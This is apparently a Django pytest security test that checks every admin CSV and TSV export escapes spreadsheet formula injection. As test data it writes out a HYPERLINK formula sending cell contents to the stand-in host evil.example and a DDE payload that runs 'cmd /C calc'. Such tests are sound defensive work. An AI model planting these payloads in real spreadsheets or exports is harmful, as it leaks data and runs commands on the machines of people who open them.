"""Spreadsheet formula injection: text that a spreadsheet would run as a formula comes out of
every admin export, in every spreadsheet format offered, as plain text. Walks every ModelAdmin
with an export, so a resource added tomorrow is covered."""

import csv
import io

import pytest
from django.contrib import admin
from import_export.admin import ExportMixin

from activities.services import activity_ingest
from classification.services import rule_create
from crmbridge.exports import escape_formula
from crmbridge.roles import ADMIN
from tests.security.conftest import admin_request

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = '=cmd|" /C calc"!A0'
# What a spreadsheet takes as the start of a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    HYPERLINK,
    DDE,
    '==HYPERLINK("http://evil.example")',
    *(f'{start}SUM(1+1)*cmd|" /C calc"!A0' for start in FORMULA_STARTS),
]
SPREADSHEET_FORMATS = {"csv": ",", "tsv": "\t"}


def _export(client, model_admin, user, extension):
    opts = model_admin.model._meta
    request = admin_request(user)
    formats = [f().get_extension() for f in model_admin.get_export_formats()]
    resource = model_admin.get_export_resource_classes(request)[0]()
    prefix = resource.__class__.__name__.lower()
    data = {"format": str(formats.index(extension)), "resource": "0"}
    data |= {f"{prefix}_{f.column_name}": "on" for f in resource.get_export_fields()}
    response = client.post(f"/admin/{opts.app_label}/{opts.model_name}/export/", data)
    assert response.status_code == 200, (opts.label, response.status_code)
    assert response["Content-Disposition"].startswith("attachment")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=SPREADSHEET_FORMATS[extension]))


@pytest.fixture
def hostile_rows(role_users):
    user = role_users[ADMIN]
    for number, payload in enumerate(PAYLOADS):
        activity_ingest(
            item={
                "external_id": f"formula-{number}",
                "kind": "email",
                "occurred_at": "2026-11-02T09:30:00Z",
                "owner": user.email,
                "subject": payload,
                "participants": [{"email": "jane@prospect.example", "name": "Jane Doe"}],
            }
        )
        rule_create(keyword=f"Chief Officer {number}", dimension="department", value=payload)
    return user


@pytest.mark.parametrize("extension", sorted(SPREADSHEET_FORMATS))
def test_no_exported_cell_starts_a_formula(client, hostile_rows, extension):
    client.force_login(hostile_rows)
    exported = {}
    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ExportMixin):
            exported[model._meta.label] = _export(client, model_admin, hostile_rows, extension)

    assert {"activities.Activity", "classification.ClassificationRule"} <= set(exported)
    cells = [(label, cell) for label, rows in exported.items() for row in rows for cell in row]
    assert [c for c in cells if c[1].startswith(FORMULA_STARTS)] == []
    # The text is kept, made harmless: every payload is there after a leading quote (a subject
    # loses its leading whitespace on the way in; what is left still starts a formula).
    for label in ("activities.Activity", "classification.ClassificationRule"):
        texts = {cell for name, cell in cells if name == label}
        missing = [p for p in PAYLOADS if not {f"'{p}", escape_formula(p.strip())} & texts]
        assert missing == [], label


def test_a_plain_negative_number_stays_a_number():
    assert escape_formula("-12.5") == "-12.5"
    assert escape_formula("-1+2") == "'-1+2"
    assert escape_formula("Jane") == "Jane"
